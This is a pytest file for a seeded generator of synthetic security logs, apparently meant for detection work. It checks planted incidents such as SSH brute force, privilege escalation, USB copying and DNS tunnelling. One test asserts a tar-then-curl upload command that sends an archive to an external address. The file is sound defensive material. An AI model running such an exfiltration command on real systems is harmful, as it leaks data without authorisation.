"""The seeded log generator: deterministic, streaming, parseable, with true ground truth."""

from __future__ import annotations

import hashlib
import itertools
import json
from datetime import timedelta
from pathlib import Path

import pytest

from ingest.parsers import ParserOptions, as_lists, detect_format, get_parser
from ingest.synth import FILES, FORMATS, ground_truth, iter_lines, write_log, write_sample_logs
from ingest.synth.world import ALLOWLIST, YEAR, at

SEED = 7
RECORDS = 20_000


@pytest.fixture(scope="module")
def logs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    directory = tmp_path_factory.mktemp("synth")
    return {p.name: p for p in write_sample_logs(directory, records=RECORDS, seed=SEED)}


@pytest.fixture(scope="module")
def parsed(logs: dict[str, Path]) -> dict[str, list[dict[str, object]]]:
    """Every file parsed by its parser, as rows."""
    out = {}
    for name, path in logs.items():
        lines = path.read_bytes().split(b"\n")[:-1]
        derived = as_lists(get_parser(FORMATS[name], ParserOptions(year=YEAR)).parse(lines))
        out[name] = [
            dict(zip(derived, row, strict=True)) for row in zip(*derived.values(), strict=True)
        ]
    return out


def attrs(row: dict[str, object]) -> dict[str, object]:
    return json.loads(str(row["attrs"])) if row["attrs"] else {}


class TestGenerator:
    def test_same_seed_same_bytes(self, logs, tmp_path):
        """The same seed and size give byte-identical files; another seed does not."""
        again = write_sample_logs(tmp_path / "a", records=RECORDS, seed=SEED)
        other = write_sample_logs(tmp_path / "b", records=RECORDS, seed=SEED + 1)
        digest = {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in logs.values()}
        assert {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in again} == digest
        assert {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in other} != digest

    def test_files_and_line_count(self, logs):
        """Seven files in their formats, exactly the requested number of lines in all."""
        assert sorted(logs) == sorted(FILES)
        total = sum(len(p.read_bytes().split(b"\n")) - 1 for p in logs.values())
        assert total == RECORDS

    def test_detected_and_parsed_without_errors(self, logs, parsed):
        """Each file is detected as its format and every line parses."""
        for name, path in logs.items():
            assert detect_format(path.read_bytes().split(b"\n")[:50]) == FORMATS[name]
            assert [r["message"] for r in parsed[name] if r["parse_error"]] == []

    def test_lines_are_in_time_order(self, parsed):
        """Every file is in time order, as real logs are."""
        for rows in parsed.values():
            times = [r["event_time"] for r in rows if r["event_time"] is not None]
            assert times == sorted(times)  # type: ignore[type-var]

    @pytest.mark.parametrize("records", [600, 2_000])
    def test_small_sizes_are_exact_and_keep_every_incident(self, tmp_path, records):
        """Small totals are still exact; incident lines are never cut to fit."""
        paths = write_sample_logs(tmp_path, records=records, seed=SEED)
        assert sum(p.read_bytes().count(b"\n") for p in paths) == records
        auth = (tmp_path / "auth.log").read_bytes()
        assert (
            f"Accepted password for deploy from {ground_truth(SEED).brute_force.src_ip}".encode()
            in auth
        )

    def test_streams_lazily(self):
        """100M lines are a lazy stream: the first lines come without generating the rest."""
        head = list(itertools.islice(iter_lines("auth.log", seed=SEED, records=100_000_000), 1000))
        assert len(head) == 1000
        assert all(b"\n" not in line for line in head)

    def test_write_log_byte_limit(self, tmp_path):
        """write_log stops before the byte limit, on a line boundary."""
        path = tmp_path / "conn.log"
        lines = write_log(path, "conn.log", seed=SEED, records=10_000, max_bytes=50_000)
        data = path.read_bytes()
        assert len(data) <= 50_000
        assert data.count(b"\n") == lines
        assert data.endswith(b"\n")


class TestGroundTruth:
    def test_brute_force_then_success(self, parsed):
        """The attacker's failed logins, repeats counted, then one success for the same user."""
        bf = ground_truth(SEED).brute_force
        rows = [
            r
            for r in parsed["auth.log"]
            if r["src_ip"] == bf.src_ip and r["event_type"] == "ssh_login"
        ]
        failed = [r for r in rows if r["outcome"] == "failure"]
        assert len(failed) == bf.failed_lines
        assert sum(int(attrs(r).get("repeated", 1)) for r in failed) == bf.failed_attempts
        assert failed[0]["event_time"] == at(bf.first_failure).replace(microsecond=0)
        ok = [r for r in rows if r["outcome"] == "success"]
        assert [(r["user"], r["host"]) for r in ok] == [(bf.user, bf.host)]
        others = [
            r
            for r in parsed["auth.log"]
            if r["app"] == "sshd" and r["outcome"] == "failure" and r["src_ip"] != bf.src_ip
        ]
        assert len(others) == 0

    def test_privilege_escalation(self, parsed):
        """sudo refusals for the non-admin, and www-data's su then the shadow read in audit.log."""
        pe = ground_truth(SEED).privilege_escalation
        sudo = [r for r in parsed["auth.log"] if r["app"] == "sudo" and r["outcome"] == "failure"]
        kinds = {r["event_type"] for r in sudo}
        assert kinds == {"pam_auth_failure", "sudo_auth_failure", "sudo_denied"}
        assert {r["user"] for r in sudo} == {pe.sudo_user}
        denied = next(r for r in sudo if r["event_type"] == "sudo_denied")
        assert denied["object"] == pe.not_in_sudoers_command
        audit = parsed["audit.log"]
        su = next(r for r in audit if r["event_type"] == "USER_AUTH")
        assert (su["user"], su["app"], attrs(su)["uid"]) == (
            pe.su_to_user,
            "su",
            str(pe.su_from_uid),
        )
        cmd = next(r for r in audit if r["event_type"] == "USER_CMD")
        assert cmd["object"] == pe.command

    def test_transfers_outside_the_allowlist(self, parsed):
        """Only the incidents send to unlisted addresses; only they move more than 5 MB."""
        truth = ground_truth(SEED)
        conns = [r for r in parsed["conn.log"] if r["event_type"] == "conn"]
        external = {
            (r["dst_ip"], r["bytes_out"])
            for r in conns
            if not str(r["dst_ip"]).startswith("10.") and r["dst_ip"] not in ALLOWLIST
        }
        expected = {
            (t.dst_ip, t.bytes_out) for t in (truth.off_hours_transfer, *truth.unlisted_transfers)
        }
        expected.add((truth.archive_transfer.dst_ip, truth.archive_transfer.bytes_out))
        assert external == expected
        big = {r["dst_ip"] for r in conns if int(r["bytes_out"] or 0) > 5_000_000}  # type: ignore[call-overload]
        assert big == {ip for ip, _ in expected}
        off = truth.off_hours_transfer
        assert 2 <= at(off.time).hour < 5

    def test_usb_attach_mount_and_writes(self, parsed):
        """USB attach and mount on the workstation, then the listed files written to it."""
        usb = ground_truth(SEED).usb
        syslog = [r for r in parsed["syslog"] if r["host"] == usb.host]
        types = [r["event_type"] for r in syslog]
        assert "usb_mass_storage" in types
        mount = next(r for r in syslog if r["event_type"] == "removable_media_mount")
        assert (mount["object"], attrs(mount)["device"]) == (usb.mount_point, usb.device)
        info = [attrs(r) for r in syslog if r["event_type"] == "usb_device_info"]
        assert {"vendor_id": usb.vendor_id, "product_id": usb.product_id} in info
        assert {"serial": usb.serial} in info
        writes = [r for r in parsed["edr.jsonl"] if str(r["object"]).startswith(usb.mount_point)]
        assert tuple(r["object"] for r in writes) == usb.files
        assert sum(int(attrs(r)["file.size"]) for r in writes) == usb.bytes_written

    def test_archive_then_transfer(self, parsed):
        """tar builds the archive, curl sends it to the recorded address minutes later."""
        at_ = ground_truth(SEED).archive_transfer
        edr = [r for r in parsed["edr.jsonl"] if r["host"] == at_.host and r["user"] == at_.user]
        commands = [
            str(r["object"])
            for r in edr
            if at_.archive in str(r["object"]) and r["action"] == "process_start"
        ]
        assert commands[0].startswith("tar -czf " + at_.archive)
        assert commands[1] == f"curl -s -T {at_.archive} https://{at_.dst_ip}/upload"
        gap = at(at_.transfer_time) - at(at_.archive_time)
        assert timedelta(minutes=1) < gap < timedelta(minutes=10)

    def test_dns_tunnel(self, parsed):
        """Many TXT queries with long labels under one domain, from one host."""
        tunnel = ground_truth(SEED).dns_tunnel
        rows = [r for r in parsed["dns.log"] if str(r["object"]).endswith(tunnel.domain)]
        assert len(rows) == tunnel.queries
        assert {r["src_ip"] for r in rows} == {tunnel.src_ip}
        assert (
            min(len(str(r["object"]).split(".")[0]) for r in rows) == tunnel.min_label_length >= 50
        )
        others = [r for r in parsed["dns.log"] if r["event_type"] == "dns" and r not in rows]
        assert max(len(str(r["object"]).split(".")[0]) for r in others) < 20

    def test_error_burst(self, parsed):
        """All server errors fall in the burst minute."""
        burst = ground_truth(SEED).error_burst
        errors = [r for r in parsed["access.log"] if int(attrs(r)["status"]) >= 500]
        assert len(errors) == burst.errors
        start = at(burst.minute)
        assert all(start <= r["event_time"] < start + timedelta(minutes=1) for r in errors)  # type: ignore[operator]

    def test_silent_host(self, parsed):
        """The silent host logs before its time and never after; others go on."""
        truth = ground_truth(SEED)
        cut = at(truth.silent_after)
        rows = [r for rows in parsed.values() for r in rows if r["host"] == truth.silent_host]
        assert rows
        assert all(r["event_time"] < cut for r in rows)  # type: ignore[operator]
        later = [r for r in parsed["auth.log"] if r["event_time"] >= cut]  # type: ignore[operator]
        assert len({r["host"] for r in later}) >= 3
